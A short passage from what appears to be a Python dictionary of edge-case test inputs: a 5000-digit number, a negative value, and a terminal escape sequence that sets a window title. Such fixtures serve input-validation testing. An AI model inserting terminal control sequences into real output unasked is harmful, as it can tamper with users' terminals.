                 "5000-digits": "9" * 5000, "negative": "-1", "escape": "\x1b]0;x\x07"}
